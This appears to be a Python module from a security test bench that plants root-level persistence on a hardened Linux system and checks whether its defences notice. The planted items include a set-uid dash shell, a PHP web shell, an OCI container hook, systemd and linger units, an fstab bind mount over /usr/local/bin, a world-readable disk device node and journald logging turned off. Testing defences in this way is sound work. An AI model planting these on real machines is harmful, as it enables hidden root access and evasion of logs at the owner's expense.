# SPDX-License-Identifier: Apache-2.0
"""What lies in /var, in root's home and in containers' directories, and mounts and files with special rights."""

from __future__ import annotations

from attack.persistence.kinds.units import MERGE
from attack.persistence.model import Row
from attack.persistence.payload import (
    BENCH,
    USERS,
    both,
    copy,
    lines,
    link,
    native,
    no_program,
    put,
    root_shell,
    service,
    text,
    unit,
)

HOOK = (
    '{{"version": "1.0.0", "hook": {{"path": "/bin/sh", "args": ["sh", "{bench}/fire", "b36-oci-hook"]}}, '
    '"when": {{"always": true}}, "stages": ["prestart"]}}'
)
CONTAINER = "podman run --rm --network none --rootfs /home/alice/rootfs /native"


def _set_uid() -> str:
    shell = f"cp /usr/bin/dash {BENCH}/a82-suid\nchmod 4755 {BENCH}/a82-suid\n"
    return shell + copy("native", f"{BENCH}/a82-suid-native", "4755")


#: The disk's mount is nosuid and nodev in every state; root can take that off.
REMOUNTED = "mount -o remount,bind,suid,dev /var\n{act}\nmount -o remount,bind,nosuid,nodev /var"
AS_ALICE = (
    f"runuser -u alice -- {BENCH}/a82-suid -p {BENCH}/fire a82-suid || true\n"
    f"runuser -u alice -- {BENCH}/a82-suid-native a82-suid || true"
)


def _node() -> str:
    return (
        "d=$(stat -c %d /sysroot/owner)\n"
        f"rm -f {BENCH}/a106-node\nmknod {BENCH}/a106-node b $((d >> 8 & 4095)) $((d & 255))\nchmod 666 {BENCH}/a106-node\n"
    )


def _quadlet() -> str:
    started = f"ExecStartPre=-{text('a100-quadlet')}\nExecStartPre=-{native('a100-quadlet')}"
    container = f"[Container]\nImage=localhost/planted\nPull=never\n[Service]\n{started}\n[Install]\nWantedBy=multi-user.target"
    return put("/etc/containers/systemd/a100-quadlet.container", container)


def _oci_hook() -> str:
    conf = f'[engine]\nhooks_dir = ["{BENCH}/hooks.d"]'
    return put("/etc/containers/containers.conf.d/b36.conf", conf) + put(f"{BENCH}/hooks.d/b36.json", HOOK.format(bench=BENCH))


def _uncovered() -> str:
    top = "/var/lib/extensions/b40/usr/lib"
    release = put(f"{top}/extension-release.d/extension-release.b40", "ID=_any")
    return (
        "if findmnt /var/lib/extensions >/dev/null; then umount /var/lib/extensions; fi\n"
        + release + put(f"{top}/systemd/system/b40-uncovered.service", service("b40-uncovered"))
    )  # fmt: skip


def _upper() -> str:
    folder = "$d/systemd/system"
    return (
        "for d in /sysroot/owner/etc/*/upper; do\n"
        f'mkdir -p "{folder}/multi-user.target.wants"\ncat >"{folder}/b39-upper.service" <<\'PLANTED\'\n'
        f'{service("b39-upper")}PLANTED\n'
        f'ln -sfn ../b39-upper.service "{folder}/multi-user.target.wants/b39-upper.service"\ndone\n'
    )


def _over() -> str:
    made = f"mkdir -p {BENCH}/over\ncp {BENCH}/native {BENCH}/over/a86-fstab\n"
    return made + f"echo '{BENCH}/over /usr/local/bin none bind,nofail 0 0' >>/etc/fstab\n"


def _nft() -> str:
    enabled = link("/usr/lib/systemd/system/nftables.service", "/etc/systemd/system/sysinit.target.wants/nftables.service")
    return put("/etc/nftables.conf", "table inet a108planted { }", "755") + enabled


def _fake_screen() -> str:
    screen = "StandardOutput=tty\nTTYPath=/dev/tty12\n"
    planted = put("/etc/systemd/system/a114-screen.service", service("a114-screen", screen))
    wants = "/etc/systemd/system/multi-user.target.wants"
    return planted + link("../a114-screen.service", f"{wants}/a114-screen.service")


ROWS = (
    Row("a82-suid", "X", "a set-uid shell and a set-uid program, started by a user", _set_uid(), both("a82-suid"),
        trigger=REMOUNTED.format(act=AS_ALICE), root_only=True, covered_by=("set-uid",)),
    Row("a86-fstab", "E", "a directory mounted over one of the sealed tree at boot", _over(), look="ls /usr/local/bin",
        found="a86-fstab"),
    Row("a98-compiler", "K", "a program's source, to be compiled on the machine",
        put(f"{BENCH}/a98.c", "int main(void) { return 0; }"),
        control="absent", absence=no_program("gcc", "cc", "c99", "tcc", "clang", "go", "rustc", "as", "ld", "nasm", "make",
        "ghc")),
    Row("a100-quadlet", "V", "a container of root's that systemd starts", _quadlet(), both("a100-quadlet"),
        covered_by=("quadlet",)),
    Row("a102-runtime", "U", "the container runtime replaced", copy("native", "/usr/bin/crun"), control="closed",
        reason="[Rr]ead-only file system|Text file busy"),
    Row("a105-web", "O", "a page that a web server would run", put("/var/www/html/a105.php", "<?php system('id'); ?>"),
        control="absent",
        absence=no_program("apache2", "nginx", "lighttpd", "caddy", "php", "php-fpm", "httpd")),
    Row("a106-node", "X", "a device node of the disk's for everybody", _node(),
        look=REMOUNTED.format(act=f"runuser -u alice -- head -c 512 {BENCH}/a106-node | wc -c"), found="(?m)^512$"),
    Row("a108-journal", "X", "a journal that keeps nothing",
        put("/etc/systemd/journald.conf.d/a108.conf", "[Journal]\nStorage=none"),
        look="systemd-analyze cat-config systemd/journald.conf", found="(?m)^Storage=none"),
    Row("a108-firewall", "X", "another firewall", _nft(), look="nft list tables 2>&1", found="a108planted"),
    Row("a114-screen", "E", "a program that draws a screen of its own at boot", _fake_screen(), both("a114-screen")),
    Row("a114-prompt", "X", "a prompt that a program would answer with the owner's secret",
        put("/run/systemd/ask-password/ask.a114", "[Ask]\nMessage=planted\nSocket=/run/a114"), control="absent",
        absence=no_program("login", "plymouth", "cryptsetup", "systemd-cryptsetup", "kscreenlocker_greet")),
    Row("b36-oci-hook", "E", "a program that every start of a container runs", _oci_hook(), ("b36-oci-hook",),
        trigger=f"runuser -l alice -c '{CONTAINER}' </dev/null"),
    Row("b37-nspawn", "V", "settings and images of machines", put("/etc/systemd/nspawn/b37.nspawn", "[Exec]\nBoot=yes")
        + put("/var/lib/machines/b37/etc/os-release", "ID=debian\nVERSION_ID=13")
        + link("/usr/lib/systemd/system/systemd-nspawn@.service",
        "/etc/systemd/system/machines.target.wants/systemd-nspawn@b37.service"),
        control="absent", absence=no_program("systemd-nspawn", "machinectl"), covered_by=("portable",)),
    Row("b38-owners-root", "X", "root's home where the open machine keeps it",
        f"cat >>/sysroot/owner/roothome/.bashrc <<'PLANTED'\n{lines('b38-owners-root')}PLANTED\n", both("b38-owners-root"),
        trigger=root_shell("true"), covered_by=("root-home",)),
    Row("b39-upper", "X", "the layer where the open machine keeps its changes of /etc", _upper(), both("b39-upper"),
        covered_by=("etc-upper",)),
    Row("b40-uncovered", "V", "an extension below the empty file system that covers it", _uncovered(), both("b40-uncovered"),
        trigger=MERGE.replace("a32-sysext", "b40-uncovered")),
    Row("b41-state-dropin", "V", "units in other directories of systemd's state",
        unit("b41-state-dropin", "/var/lib/systemd/system.control") + unit("b41-state-dropin", "/var/lib/systemd/user"),
        both("b41-state-dropin"), control="elsewhere", covered_by=("persistent-units",)),
    Row("b49-system-account", "V", "a system account's own units, started at boot (linger)",
        unit("b49-system-account", "/var/lib/tpm/.config/systemd/user", "default.target")
        + "chown -R tss: /var/lib/tpm/.config\nmkdir -p /var/lib/systemd/linger\n: >/var/lib/systemd/linger/tss\n",
        both("b49-system-account")),
    Row("b42-user-unit", "O", "a user's own units, started at boot: they are the user's",
        unit("b42-user-unit", "/home/alice/.config/systemd/user", "default.target")
        + "chown -R alice: /home/alice/.config\nmkdir -p /var/lib/systemd/linger\n: >/var/lib/systemd/linger/alice\n",
        both("b42-user-unit"), trigger=f"systemctl start user@$(id -u alice).service\nsleep 3\nls {USERS}"),
)  # fmt: skip
